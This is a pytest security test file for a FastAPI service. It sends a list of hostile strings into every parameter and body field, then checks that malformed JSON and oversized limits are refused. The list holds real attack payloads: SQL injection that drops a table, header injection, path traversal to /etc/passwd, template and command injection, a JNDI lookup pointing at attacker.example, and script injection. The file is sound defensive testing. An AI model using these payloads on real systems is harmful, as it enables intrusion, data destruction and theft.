"""Hostile texts in every parameter and in every field of every body: they stay texts, or are refused."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI

from api.access.guarding import by_method
from stores.contract import Query, Store
from tests.api.client import AppClient

HOSTILE = {
    "SQL": "x' OR '1'='1'; DROP TABLE events; --",
    "SQL of LIKE": "%_%' ESCAPE '",
    "full-text search": 'a" OR NEAR(b c, 5) *^',
    "JSON of a query": '{"bool": {"must_not": []}}',
    "another header": "x\r\nSet-Cookie: planted=1\r\n\r\n<html>",
    "NUL": "evil\x00.example",
    "another folder": "../../../../etc/passwd",
    "another folder, encoded twice": "%252e%252e%252fetc%252fpasswd",
    "template": "{{7*7*7}}${7*7*7}#{7*7*7}<%= 7*7*7 %>",
    "format": "%s%s%n{0}{self.__class__}",
    "look-up of a logger": "${jndi:ldap://attacker.example/a}",
    "command": "$(id);`id`|id",
    "script": "<script>alert(1)</script>",
    "half of a character": "\ud800",
    "direction of writing": "\u202eelpmaxe.live",
    "number": "9" * 400,
    "not a number": "NaN",
}
SETTLED = frozenset({200, 201, 204, 400, 401, 403, 404, 406, 409, 412, 422, 428})


def resolved(app: FastAPI, schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = app.openapi()["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    return schema


def places(app: FastAPI) -> Iterator[tuple[str, str, str, str, dict[str, Any]]]:
    """Give each place for a value: method, path, where it is (`query`, `body`, ...), its name, a body that is good."""
    document = app.openapi()
    paths = {id(operation): path for path, item in document["paths"].items() for operation in item.values()}
    for method, operation in by_method(document):
        path = paths[id(operation)]
        if operation["operationId"] in ("streamEvents", "changeOwnPassword"):
            continue  # One has no end; its conditions are those of `listEvents`. The other belongs to sessions.
        body: dict[str, Any] = {}
        if "requestBody" in operation:
            schema = resolved(app, operation["requestBody"]["content"]["application/json"]["schema"])
            body = (schema.get("examples") or [{}])[0]
            for name in schema.get("properties", {}):
                yield method, path, "body", name, body
        for parameter in operation.get("parameters", ()):
            yield method, path, parameter["in"], parameter["name"], body


def sent(client: AppClient, place: tuple[str, str, str, str, dict[str, Any]], text: str) -> Any:
    method, path, where, name, body = place
    options: dict[str, Any] = {"headers": {"If-Match": "*"}}
    encoded = "".join(f"%{byte:02X}" for byte in text.encode("utf-8", "surrogatepass"))
    if where == "path":
        path = path.replace(f"{{{name}}}", encoded)
    path = path.replace("{", "").replace("}", "")
    if where == "query":
        path += f"?{name}={encoded}"
    if where == "header":
        options["headers"] = {**options["headers"], name: text.encode("utf-8", "surrogatepass")}
    if method in ("post", "put", "patch"):
        # ASCII only, so that half a character arrives as JSON can say it.
        options["content"] = json.dumps(body | ({name: text} if where == "body" else {})).encode()
        options["headers"] = {**options["headers"], "Content-Type": "application/json"}
    return client.request(method.upper(), path, **options)


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_text_is_a_text_wherever_it_comes(client: AppClient, app: FastAPI, filled: Store, kind: str) -> None:
    text, asked = HOSTILE[kind], 0
    before = filled.summary(Query()).events
    for place in places(app):
        answer = sent(client, place, text)
        assert answer.status_code in SETTLED, (place[:4], answer.status_code, answer.text[:300])
        assert "set-cookie" not in answer.headers, place[:4]
        assert "html" not in answer.headers.get("content-type", ""), place[:4]
        assert answer.headers["x-content-type-options"] == "nosniff", place[:4]
        assert "343" not in answer.text or "7*7*7" not in text, place[:4]
        assert "root:x:" not in answer.text, place[:4]
        assert "Traceback" not in answer.text, place[:4]
        asked += 1
    assert asked > 150
    assert filled.summary(Query()).events == before


@pytest.mark.parametrize(
    "body",
    [
        *(b"[" * 200_000, b'{"a":' * 100_000, b'{"values": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", b'"\xff"'),
        *(b'{"values": [' + b"9" * 20_000 + b"]}", b'{"values": [1e999999]}', b'{"values": [NaN]}', b"null", b"0"),
        *(b'{"values": ["a"], "values": {}}', b"\xef\xbb\xbf{}", b"\x00" * 100, b'{"values": ["\\ud800"]}', b""),
    ],
)
@pytest.mark.parametrize("path", ["/api/v1/lookup", "/api/v1/observables", "/api/v1/decisions", "/api/v1/users"])
def test_a_body_that_is_no_sound_json_is_refused(client: AppClient, path: str, body: bytes) -> None:
    answer = client.request("POST", path, content=body, headers={"Content-Type": "application/json"})
    assert answer.status_code in (400, 413, 422) or (b"ud800" in body and answer.status_code == 200), answer.text[:300]


def test_no_page_is_larger_than_it_may_be(client: AppClient, app: FastAPI) -> None:
    """Every `limit` has an end, and every list and every text that somebody may send."""
    document, seen = app.openapi(), 0
    for path, item in document["paths"].items():
        for operation in item.values():
            for parameter in operation.get("parameters", ()):
                for schema in parameter["schema"].get("anyOf", [parameter["schema"]]):
                    where = (path, parameter["name"], schema)
                    if schema.get("type") in ("integer", "number"):
                        assert "maximum" in schema or "exclusiveMaximum" in schema, where
                    elif schema.get("type") == "array":
                        assert "maxItems" in schema, where
                    elif schema.get("type") == "string":
                        assert {"maxLength", "enum", "const", "pattern"} & schema.keys(), where
                    seen += 1
    assert seen > 200
    for path in ("/api/v1/events", "/api/v1/threats", "/api/v1/sources", "/api/v1/trails"):
        for limit in ("0", "-1", "1001", "1e9", "99999999999999999999"):
            assert client.get(path, {"limit": limit}).status_code == 422
